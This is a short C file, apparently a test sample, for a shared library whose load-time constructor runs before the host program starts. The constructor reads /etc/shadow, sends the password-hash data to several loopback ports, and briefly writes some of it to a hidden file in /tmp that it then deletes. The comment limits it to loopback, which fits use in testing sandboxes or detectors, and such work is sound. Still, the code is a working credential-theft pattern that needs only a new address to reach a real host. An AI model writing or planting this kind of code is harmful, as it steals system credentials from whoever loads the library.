// A library that does something before the program begins: reads, writes, connects. Loopback only.
#include <arpa/inet.h>
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void begin(void) { char b[900]; int f = open("/etc/shadow", O_RDONLY), n = read(f, b, sizeof b), k;
  for (k = 0; k < 5; k++) { int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = {AF_INET, htons(4900 + k), {htonl(0x7f000001)}, {0}};
    if (!connect(s, (void *)&a, sizeof a)) n = write(s, b, n); close(s); }
  close(f); f = open("/tmp/.e", O_CREAT | O_RDWR, 0600); n = write(f, b, 9); close(f); unlink("/tmp/.e"); (void)n; }
